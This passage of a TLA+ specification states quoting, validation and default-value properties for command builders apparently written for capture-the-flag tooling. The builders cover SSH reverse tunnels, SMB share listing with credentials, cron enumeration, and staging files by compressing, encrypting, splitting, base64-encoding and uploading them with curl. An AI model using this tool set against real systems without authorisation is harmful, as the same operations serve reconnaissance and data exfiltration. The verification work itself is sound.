First(s, set) ==
    IF \E i \in 1..Len(s) : s[i] \in set
    THEN CHOOSE i \in 1..Len(s) : s[i] \in set /\ \A j \in 1..(i - 1) : s[j] \notin set
    ELSE Len(s) + 1

RECURSIVE ShellScan(_, _, _, _, _)
ShellScan(s, mode, cur, open, words) ==
    IF Len(s) = 0
    THEN IF mode # "plain" THEN Unterminated
         ELSE IF open THEN Append(words, cur) ELSE words
    ELSE IF First(s, Specials(mode)) > 1
    THEN ShellScan(SubSeq(s, First(s, Specials(mode)), Len(s)), mode,
                   cur \o SubSeq(s, 1, First(s, Specials(mode)) - 1), TRUE, words)
    ELSE LET c == s[1]
             rest == Tail(s)
         IN  CASE mode = "plain" ->
                    IF c \in Blanks
                    THEN ShellScan(rest, "plain", <<>>, FALSE,
                                   IF open THEN Append(words, cur) ELSE words)
                    ELSE IF c = "'" THEN ShellScan(rest, "single", cur, TRUE, words)
                    ELSE IF c = "\"" THEN ShellScan(rest, "double", cur, TRUE, words)
                    ELSE IF Len(rest) > 0
                    THEN ShellScan(Tail(rest), "plain", Append(cur, rest[1]), TRUE, words)
                    ELSE ShellScan(rest, "plain", Append(cur, c), TRUE, words)
               [] mode = "single" -> ShellScan(rest, "plain", cur, TRUE, words)
               [] OTHER ->
                    IF c = "\"" THEN ShellScan(rest, "plain", cur, TRUE, words)
                    ELSE IF Len(rest) > 0 /\ rest[1] \in {"\"", "\\", "$"}
                    THEN ShellScan(Tail(rest), "double", Append(cur, rest[1]), TRUE, words)
                    ELSE ShellScan(rest, "double", Append(cur, c), TRUE, words)

ShellWords(s) == ShellScan(s, "plain", <<>>, FALSE, <<>>)

\* s starts with p; s ends with p
StartsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p
EndsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, Len(s) - Len(p) + 1, Len(s)) = p

\* number of occurrences of character c in s
Count(s, c) == Cardinality({i \in 1..Len(s) : s[i] = c})

\* the latest invocation called run_command, and the command line it passed
Called == Len(calls) = 1
Cmd == calls[1].cmd

\* the latest invocation was of builder op
Is(op) == last.op = op

---------------------------------------------------------------------------
(* Validation of the direction argument. *)

\* the direction the latest ssh_tunnel or rsync_transfer invocation took
TunnelDirection == Param(last.args.direction, <<"L">>)
RsyncDirection == Param(last.args.direction, <<"u","p","l","o","a","d">>)

\* C1: an ssh_tunnel call whose direction is none of L, R in either case, and
\* an rsync_transfer call whose direction is none of upload, download in any
\* case, returns the exact error message and makes no run_command call.
C1_InvalidDirectionRejected ==
    /\ (Is("ssh_tunnel") /\ TunnelDirection \notin TunnelAllowed)
            => (ret = <<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","L","'"," ","o","r"," ","'","R","'",".">> /\ calls = <<>>)
    /\ (Is("rsync_transfer") /\ RsyncDirection \notin UploadSpellings \cup DownloadSpellings)
            => (ret = <<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","u","p","l","o","a","d","'"," ","o","r"," ","'","d","o","w","n","l","o","a","d","'",".">> /\ calls = <<>>)

\* rsync_transfer(..., direction="sideways") after an earlier call that ran:
\* the message is returned and the executor's count stays at one
C1_Witness ==
    /\ Is("rsync_transfer")
    /\ last.args.direction = Given(<<"s","i","d","e","w","a","y","s">>)
    /\ ret = <<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","u","p","l","o","a","d","'"," ","o","r"," ","'","d","o","w","n","l","o","a","d","'",".">>
    /\ calls = <<>>
    /\ invocations = 2
    /\ execCount = 1

---------------------------------------------------------------------------
(* Delegation to run_command. *)

\* C2: whenever an invocation reaches run_command, the ctf it hands over is
\* the ctf the caller passed (None when omitted) and the value the builder
\* returns is the text run_command returned.
C2_CtfAndResultVerbatim ==
    Called => /\ calls[1].ctf = Param(last.args.ctf, None)
              /\ ret = calls[1].out

\* base64_encode_file(file, ctf="ctf1") whose run_command call returned "ok"
C2_Witness ==
    /\ Is("base64_encode_file")
    /\ last.args.ctf = Given("ctf1")
    /\ Called
    /\ calls[1].ctf = "ctf1"
    /\ ret = <<"o","k">>

\* C3: an invocation makes at most one run_command call, the executor has
\* never received more calls than there were invocations, and after n
\* invocations with allowed direction arguments it has received exactly n.
C3_OneCallPerInvocation ==
    /\ Len(calls) <= 1
    /\ execCount <= invocations
    /\ allValid => execCount = invocations

\* two invocations with allowed arguments, the second ssh_tunnel(direction="l"),
\* and two executor calls
C3_Witness ==
    /\ invocations = 2
    /\ allValid
    /\ execCount = 2
    /\ Is("ssh_tunnel")
    /\ last.args.direction = Given(<<"l">>)
    /\ Called

---------------------------------------------------------------------------
(* Quoting. *)

\* the archive name the latest compress_directory / compress_and_encrypt took
TarName == Param(last.args.archive_name, <<"a","r","c","h","i","v","e",".","t","a","r",".","g","z">>)
ZipName == Param(last.args.archive_name, <<"a","r","c","h","i","v","e",".","z","i","p">>)

\* C4: in compress_directory and compress_and_encrypt a directory that holds
\* a space is exactly one word of the command line passed to run_command.
C4_DirectoryOneToken ==
    /\ (Is("compress_directory") /\ " " \in Range(last.args.directory))
            => /\ Called
               /\ ShellWords(Cmd) = <<<<"t","a","r">>, <<"c","z","f">>, TarName, <<"-","C">>, last.args.directory, <<".">>>>
    /\ (Is("compress_and_encrypt") /\ " " \in Range(last.args.directory))
            => /\ Called
               /\ ShellWords(Cmd) # Unterminated
               /\ LET w == ShellWords(Cmd)
                  IN  /\ Len(w) \in {4, 6}
                      /\ w[Len(w)] = last.args.directory
                      /\ w[Len(w) - 1] = ZipName

\* the words ssh_exec's command line is to have: ssh -p <port> [-i <file>]
\* <user>@<host> <command>
SshExecWords ==
    <<<<"s","s","h">>, <<"-","p">>, Param(last.args.port, <<"2","2">>)>>
    \o (IF Param(last.args.identity_file, <<>>) # <<>>
        THEN <<<<"-","i">>, Param(last.args.identity_file, <<>>)>> ELSE <<>>)
    \o <<last.args.user \o <<"@">> \o last.args.host, last.args.command>>

\* C5: in ssh_exec the remote command is exactly one word of the command
\* line, the one after user@host, whatever characters it holds.
C5_RemoteCommandOneToken ==
    Is("ssh_exec") => (Called /\ ShellWords(Cmd) = SshExecWords)

---------------------------------------------------------------------------
(* smb_list_shares: the authentication string. *)

\* "%%" read back as "%", left to right
RECURSIVE Unescape(_)
Unescape(s) ==
    IF Len(s) = 0 THEN <<>>
    ELSE IF Len(s) >= 2 /\ s[1] = "%" /\ s[2] = "%" THEN <<"%">> \o Unescape(Tail(Tail(s)))
    ELSE <<s[1]>> \o Unescape(Tail(s))

\* every percent sign of s is one of a pair "%%"
RECURSIVE AllPercentsDoubled(_)
AllPercentsDoubled(s) ==
    IF Len(s) = 0 THEN TRUE
    ELSE IF s[1] = "%" THEN Len(s) >= 2 /\ s[2] = "%" /\ AllPercentsDoubled(Tail(Tail(s)))
    ELSE AllPercentsDoubled(Tail(s))

\* what precedes the password in the command line, and what follows it
SmbBeforePassword ==
    <<"s","m","b","c","l","i","e","n","t"," ","-","L"," ","/","/">> \o last.args.host \o <<" ","-","U"," ">>
    \o (IF Param(last.args.domain, <<>>) # <<>> THEN Param(last.args.domain, <<>>) \o <<"\\">> ELSE <<>>)
    \o Param(last.args.user, <<>>) \o <<"%">>
SmbAfterPassword == <<" ","-","g">>

\* the part of the command line between the two
SmbPasswordPart ==
    SubSeq(Cmd, Len(SmbBeforePassword) + 1, Len(Cmd) - Len(SmbAfterPassword))

\* C6: in smb_list_shares with a non-empty user the -U argument is
\* [domain\]user%pw, where pw is the password with every "%" doubled: pw holds
\* no single "%", twice the password's "%", and reads back as the password.
C6_PasswordPercentEscaped ==
    (Is("smb_list_shares") /\ Param(last.args.user, <<>>) # <<>>)
        => /\ Called
           /\ StartsWith(Cmd, SmbBeforePassword)
           /\ EndsWith(Cmd, SmbAfterPassword)
           /\ Len(Cmd) >= Len(SmbBeforePassword) + Len(SmbAfterPassword)
           /\ AllPercentsDoubled(SmbPasswordPart)
           /\ Count(SmbPasswordPart, "%") = 2 * Count(Param(last.args.password, <<>>), "%")
           /\ Unescape(SmbPasswordPart) = Param(last.args.password, <<>>)

\* smb_list_shares("10.0.0.5", user="alice", password="a%", domain="CORP")
C6_Witness ==
    /\ Is("smb_list_shares")
    /\ last.args.user = Given(<<"a","l","i","c","e">>)
    /\ last.args.password = Given(<<"a","%">>)
    /\ last.args.domain = Given(<<"C","O","R","P">>)
    /\ Called
    /\ Cmd = <<"s","m","b","c","l","i","e","n","t"," ","-","L"," ","/","/","1","0",".","0",".","0",".","5"," ","-","U"," ","C","O","R","P","\\","a","l","i","c","e","%","a","%","%"," ","-","g">>

---------------------------------------------------------------------------
(* Defaults. *)

\* the latest invocation was of builder op and left parameter field out
Left(op, field) == Is(op) /\ last.args[field] = Omitted

\* C7: a call that leaves a defaulted parameter out passes run_command a
\* command line that holds the documented default at its place (port 22,
\* chunk size 10, field name file, count 4, archive.tar.gz, archive.zip) and
\* that equals the command line of the same call with the default passed.
C7_DefaultsApplied ==
    LET a == last.args
    IN  /\ Left("scp_upload", "port")
                => /\ Called
                   /\ StartsWith(Cmd, <<"s","c","p"," ","-","P"," ","2","2"," ">>)
                   /\ Cmd = scp_upload(a.local_file, a.remote_path, a.user, a.host,
                                       Given(<<"2","2">>), a.identity_file, a.ctf).cmd
        /\ Left("scp_download", "port")
                => /\ Called
                   /\ StartsWith(Cmd, <<"s","c","p"," ","-","P"," ","2","2"," ">>)
                   /\ Cmd = scp_download(a.remote_file, a.local_path, a.user, a.host,
                                         Given(<<"2","2">>), a.identity_file, a.ctf).cmd
        /\ Left("ssh_exec", "port")
                => /\ Called
                   /\ StartsWith(Cmd, <<"s","s","h"," ","-","p"," ","2","2"," ">>)
                   /\ Cmd = ssh_exec(a.user, a.host, a.command, Given(<<"2","2">>),
                                     a.identity_file, a.ctf).cmd
        /\ (Left("rsync_transfer", "port") /\ Called)
                => /\ StartsWith(Cmd, <<"r","s","y","n","c"," ","-","a","v","z"," ","-","e"," ","\"","s","s","h"," ","-","p"," ","2","2">>)
                   /\ Cmd[Len(<<"r","s","y","n","c"," ","-","a","v","z"," ","-","e"," ","\"","s","s","h"," ","-","p"," ","2","2">>) + 1] \in {" ", "\""}
                   /\ Cmd = rsync_transfer(a.local_path, a.remote_path, a.user, a.host,
                                           Given(<<"2","2">>), a.identity_file, a.direction, a.ctf).cmd
        /\ Left("split_file", "chunk_size_mb")
                => /\ Called
                   /\ StartsWith(Cmd, <<"s","p","l","i","t"," ","-","b"," ","1","0","M"," ">>)
                   /\ Cmd = split_file(a.file_path, Given(10), a.ctf).cmd
        /\ Left("upload_http", "field_name")
                => /\ Called
                   /\ StartsWith(Cmd, <<"c","u","r","l"," ","-","X"," ","P","O","S","T"," ","-","F"," ","'","f","i","l","e","=","@">>)
                   /\ Cmd = upload_http(a.url, a.file_path, Given(<<"f","i","l","e">>), a.ctf).cmd
        /\ Left("ping_host", "count")
                => /\ Called
                   /\ StartsWith(Cmd, <<"p","i","n","g"," ","-","c"," ","4"," ">>)
                   /\ Cmd = ping_host(a.host, Given(4), a.ctf).cmd
        /\ Left("compress_directory", "archive_name")
                => /\ Called
                   /\ StartsWith(Cmd, <<"t","a","r"," ","c","z","f"," ","a","r","c","h","i","v","e",".","t","a","r",".","g","z"," ","-","C"," ">>)
                   /\ Cmd = compress_directory(a.directory, Given(<<"a","r","c","h","i","v","e",".","t","a","r",".","g","z">>), a.ctf).cmd
        /\ Left("compress_and_encrypt", "archive_name")
                => /\ Called
                   /\ ShellWords(Cmd) # Unterminated
                   /\ Len(ShellWords(Cmd)) >= 2
                   /\ ShellWords(Cmd)[Len(ShellWords(Cmd)) - 1] = <<"a","r","c","h","i","v","e",".","z","i","p">>
                   /\ Cmd = compress_and_encrypt(a.directory, Given(<<"a","r","c","h","i","v","e",".","z","i","p">>),
                                                 a.password, a.ctf).cmd

\* ssh_exec("alice", "gateway", "id") with port, identity_file and ctf left out
C7_Witness ==
    /\ Left("ssh_exec", "port")
    /\ last.args.command = <<"i","d">>
    /\ Called
    /\ Cmd = <<"s","s","h"," ","-","p"," ","2","2"," ","a","l","i","c","e","@","g","a","t","e","w","a","y"," ","\"","i","d","\"">>

---------------------------------------------------------------------------
(* ssh_tunnel and rsync_transfer: the direction. *)

\* the option letter of an allowed ssh_tunnel direction
TunnelLetter(d) == IF d \in {<<"L">>, <<"l">>} THEN <<"L">> ELSE <<"R">>

\* C8: ssh_tunnel with direction l, L, r or R and no identity file passes
\* run_command exactly "ssh -f -N -<D> <local_port>:<remote_host>:<remote_port>
\* <user>@<host>", <D> the upper-case letter; direction "r" with 8080,
\* internal.host, 80, alice, gateway gives
\* "ssh -f -N -R 8080:internal.host:80 alice@gateway".
C8_TunnelDirectionNormalised ==
    LET a == last.args
    IN  (/\ Is("ssh_tunnel")
         /\ a.direction \in {Given(d) : d \in TunnelAllowed}
         /\ Param(a.identity_file, <<>>) = <<>>)
            => /\ Called
               /\ Cmd = Cat(<<<<"s","s","h"," ","-","f"," ","-","N"," ","-">>, TunnelLetter(a.direction[1]), <<" ">>,
                              str(a.local_port), <<":">>, a.remote_host, <<":">>, str(a.remote_port),
                              <<" ">>, a.user, <<"@">>, a.host>>)
               /\ (a.local_port = 8080 /\ a.direction[1] \in {<<"R">>, <<"r">>})
                      => Cmd = <<"s","s","h"," ","-","f"," ","-","N"," ","-","R"," ","8","0","8","0",":","i","n","t","e","r","n","a","l",".","h","o","s","t",":","8","0"," ","a","l","i","c","e","@","g","a","t","e","w","a","y">>
               /\ (a.local_port = 8080 /\ a.direction[1] \in {<<"L">>, <<"l">>})
                      => Cmd = <<"s","s","h"," ","-","f"," ","-","N"," ","-","L"," ","8","0","8","0",":","i","n","t","e","r","n","a","l",".","h","o","s","t",":","8","0"," ","a","l","i","c","e","@","g","a","t","e","w","a","y">>

\* ssh_tunnel(8080, "internal.host", 80, "alice", "gateway", direction="r")
C8_Witness ==
    /\ Is("ssh_tunnel")
    /\ last.args.direction = Given(<<"r">>)
    /\ last.args.identity_file = Omitted
    /\ last.args.local_port = 8080
    /\ Called
    /\ Cmd = <<"s","s","h"," ","-","f"," ","-","N"," ","-","R"," ","8","0","8","0",":","i","n","t","e","r","n","a","l",".","h","o","s","t",":","8","0"," ","a","l","i","c","e","@","g","a","t","e","w","a","y">>

\* the ssh sub-command rsync_transfer is to pass to rsync's -e option
RsyncSshCommand ==
    <<"s","s","h"," ","-","p"," ">> \o Param(last.args.port, <<"2","2">>)
    \o (IF Param(last.args.identity_file, <<>>) # <<>>
        THEN <<" ","-","i"," ">> \o Param(last.args.identity_file, <<>>) ELSE <<>>)

\* <user>@<host>:<remote_path> of the latest rsync_transfer invocation
RsyncRemote == Cat(<<last.args.user, <<"@">>, last.args.host, <<":">>, last.args.remote_path>>)

\* C9: rsync_transfer with direction download in any letter case passes
\* run_command the words rsync -avz -e <ssh sub-command> <user>@<host>:<remote_path>
\* <local_path>; with upload in any letter case the last two words are
\* <local_path> <user>@<host>:<remote_path>; the ssh sub-command, with -p <port>
\* and -i <identity_file> when given, is one word.
C9_RsyncOrientation ==
    LET a == last.args
    IN  /\ (Is("rsync_transfer") /\ a.direction \in {Given(d) : d \in DownloadSpellings})
                => /\ Called
                   /\ ShellWords(Cmd) = <<<<"r","s","y","n","c">>, <<"-","a","v","z">>, <<"-","e">>, RsyncSshCommand,
                                          RsyncRemote, a.local_path>>
        /\ (Is("rsync_transfer") /\ a.direction \in {Given(d) : d \in UploadSpellings})
                => /\ Called
                   /\ ShellWords(Cmd) = <<<<"r","s","y","n","c">>, <<"-","a","v","z">>, <<"-","e">>, RsyncSshCommand,
                                          a.local_path, RsyncRemote>>

\* rsync_transfer("/tmp/a", "/remote/b", "bob", "10.0.0.5", direction="download")
C9_Witness ==
    /\ Is("rsync_transfer")
    /\ last.args.direction = Given(<<"d","o","w","n","l","o","a","d">>)
    /\ last.args.port = Omitted
    /\ last.args.identity_file = Omitted
    /\ Called
    /\ Cmd = <<"r","s","y","n","c"," ","-","a","v","z"," ","-","e"," ","\"","s","s","h"," ","-","p"," ","2","2","\""," ","b","o","b","@","1","0",".","0",".","0",".","5",":","/","r","e","m","o","t","e","/","b"," ","/","t","m","p","/","a">>

---------------------------------------------------------------------------
(* compress_and_encrypt: the password. *)

\* C10: compress_and_encrypt without a password, or with an empty one, passes
\* run_command "zip -r <archive_name> <quoted directory>" with no -P; with a
\* non-empty password the words are zip -r -P <password> <archive_name>
\* <directory>, the password one word whatever characters it holds.
C10_EncryptionFlagIffPassword ==
    LET a == last.args
    IN  /\ (Is("compress_and_encrypt") /\ Param(a.password, <<>>) = <<>>)
                => /\ Called
                   /\ StartsWith(Cmd, Cat(<<<<"z","i","p"," ","-","r"," ">>, ZipName, <<" ">>>>))
                   /\ ShellWords(Cmd) = <<<<"z","i","p">>, <<"-","r">>, ZipName, a.directory>>
        /\ (Is("compress_and_encrypt") /\ Param(a.password, <<>>) # <<>>)
                => /\ Called
                   /\ StartsWith(Cmd, <<"z","i","p"," ","-","r"," ","-","P"," ">>)
                   /\ ShellWords(Cmd) = <<<<"z","i","p">>, <<"-","r">>, <<"-","P">>, a.password[1], ZipName,
                                          a.directory>>

\* compress_and_encrypt("my dir", "out.zip", password="it's")
C10_Witness ==
    /\ Is("compress_and_encrypt")
    /\ last.args.directory = <<"m","y"," ","d","i","r">>
    /\ last.args.password = Given(<<"i","t","'","s">>)
    /\ Called
    /\ Cmd = <<"z","i","p"," ","-","r"," ","-","P"," ","'","i","t","'","\"","'","\"","'","s","'"," ","o","u","t",".","z","i","p"," ","'","m","y"," ","d","i","r","'">>

---------------------------------------------------------------------------
(* list_cron_jobs: how a POSIX shell runs an AND-OR list.                  *)
(* && and || have equal precedence and associate to the left: the command  *)
(* after && runs when the status so far is success, the command after ||   *)
(* when it is failure, and a command that is skipped leaves the status as  *)
(* it is.  echo and true succeed; cat, ls and crontab succeed or fail as   *)
(* the host decides.                                                       *)

\* position i of s lies inside '...' (for a line quoted with ' only)
InSingleQuotes(s, i) == Count(SubSeq(s, 1, i - 1), "'") % 2 = 1

\* the positions where an unquoted && or || starts
OperatorStarts(s) ==
    {i \in 1..(Len(s) - 1) :
        /\ SubSeq(s, i, i + 1) \in {<<"&","&">>, <<"|","|">>}
        /\ ~InSingleQuotes(s, i)}

\* the k-th smallest element of a set of numbers
Kth(set, k) == CHOOSE i \in set : Cardinality({j \in set : j < i}) = k - 1

\* the words of the k-th command of the list, k in 1..Cardinality(OperatorStarts(s)) + 1
ListCommand(s, k) ==
    LET ops == OperatorStarts(s)
        from == IF k = 1 THEN 1 ELSE Kth(ops, k - 1) + 2
        to == IF k = Cardinality(ops) + 1 THEN Len(s) ELSE Kth(ops, k) - 1
    IN  ShellWords(SubSeq(s, from, to))

\* the operator before the k-th command, k >= 2
ListOperator(s, k) == SubSeq(s, Kth(OperatorStarts(s), k - 1), Kth(OperatorStarts(s), k - 1) + 1)

\* the programs whose status the host decides
HostPrograms == {<<"c","a","t">>, <<"l","s">>, <<"c","r","o","n","t","a","b">>}

\* whether a command succeeds, fails maps each host program to whether it fails
Succeeds(words, fails) == IF words[1] \in HostPrograms THEN ~fails[words[1]] ELSE TRUE

\* the commands the shell runs, in order: commands 1..k of the list of s
RECURSIVE ShellRun(_, _, _)
ShellRun(s, k, fails) ==
    IF k = 1 THEN [ran |-> <<ListCommand(s, 1)>>, ok |-> Succeeds(ListCommand(s, 1), fails)]
    ELSE LET before == ShellRun(s, k - 1, fails)
             runs == IF ListOperator(s, k) = <<"&","&">> THEN before.ok ELSE ~before.ok
         IN  IF runs
             THEN [ran |-> Append(before.ran, ListCommand(s, k)),
                   ok |-> Succeeds(ListCommand(s, k), fails)]
             ELSE before

\* what the shell runs of the whole command line s
ShellRan(s, fails) == ShellRun(s, Cardinality(OperatorStarts(s)) + 1, fails).ran

\* the arguments of the echo commands among ran: the lines of the report
RECURSIVE Echoed(_)
Echoed(ran) ==
    IF Len(ran) = 0 THEN <<>>
    ELSE (IF ran[1][1] = <<"e","c","h","o">> THEN <<ran[1][2]>> ELSE <<>>) \o Echoed(Tail(ran))

\* the programs among ran, in order
Programs(ran) == [i \in 1..Len(ran) |-> ran[i][1]]

\* the three section labels as echo receives them, and the fallback line
SystemLabel == <<"[","S","y","s","t","e","m"," ","c","r","o","n","t","a","b","]">>
DirectoriesLabel == <<"\n">> \o <<"[","/","e","t","c","/","c","r","o","n","*"," ","d","i","r","e","c","t","o","r","i","e","s","]">>
UserLabel == <<"\n">> \o <<"[","C","u","r","r","e","n","t"," ","u","s","e","r"," ","c","r","o","n","t","a","b","]">>
NoUserCrontab == <<"N","o"," ","u","s","e","r"," ","c","r","o","n","t","a","b">>

\* every combination of failure of cat /etc/crontab, ls -l /etc/cron*, crontab -l
HostOutcomes == [HostPrograms -> BOOLEAN]

\* C11: the one command line of list_cron_jobs never short-circuits: whichever
\* of cat /etc/crontab, ls -l /etc/cron* and crontab -l fail, the shell runs
\* all three, echoes the labels [System crontab], [/etc/cron* directories],
\* [Current user crontab] in that order, and echoes No user crontab exactly
\* when crontab -l fails.
C11_CronReportComplete ==
    Is("list_cron_jobs")
        => /\ Called
           /\ "\"" \notin Range(Cmd) /\ "\\" \notin Range(Cmd)
           /\ \A fails \in HostOutcomes :
                 LET ran == ShellRan(Cmd, fails)
                 IN  /\ Programs(ran) =
                            <<<<"e","c","h","o">>, <<"c","a","t">>>> \o (IF fails[<<"c","a","t">>] THEN <<<<"t","r","u","e">>>> ELSE <<>>)
                            \o <<<<"e","c","h","o">>, <<"l","s">>>> \o (IF fails[<<"l","s">>] THEN <<<<"t","r","u","e">>>> ELSE <<>>)
                            \o <<<<"e","c","h","o">>, <<"c","r","o","n","t","a","b">>>>
                            \o (IF fails[<<"c","r","o","n","t","a","b">>] THEN <<<<"e","c","h","o">>>> ELSE <<>>)
                     /\ Echoed(ran) =
                            <<SystemLabel, DirectoriesLabel, UserLabel>>
                            \o (IF fails[<<"c","r","o","n","t","a","b">>] THEN <<NoUserCrontab>> ELSE <<>>)
                     /\ \E i \in 1..Len(ran) : ran[i] = <<<<"c","a","t">>, <<"/","e","t","c","/","c","r","o","n","t","a","b">>, <<"2",">","/","d","e","v","/","n","u","l","l">>>>
                     /\ \E i \in 1..Len(ran) : ran[i] = <<<<"l","s">>, <<"-","l">>, <<"/","e","t","c","/","c","r","o","n","*">>, <<"2",">","/","d","e","v","/","n","u","l","l">>>>
                     /\ \E i \in 1..Len(ran) : ran[i] = <<<<"c","r","o","n","t","a","b">>, <<"-","l">>, <<"2",">","/","d","e","v","/","n","u","l","l">>>>

\* list_cron_jobs() on a host where all three fail: six commands and both
\* true run, and the report is the three labels and No user crontab
C11_Witness ==
    /\ Is("list_cron_jobs")
    /\ Called
    /\ Cardinality(OperatorStarts(Cmd)) = 8
    /\ Len(ShellRan(Cmd, [p \in HostPrograms |-> TRUE])) = 9
    /\ Echoed(ShellRan(Cmd, [p \in HostPrograms |-> TRUE]))
           = <<SystemLabel, DirectoriesLabel, UserLabel, NoUserCrontab>>
    /\ Echoed(ShellRan(Cmd, [p \in HostPrograms |-> FALSE]))
           = <<SystemLabel, DirectoriesLabel, UserLabel>>

=============================================================================
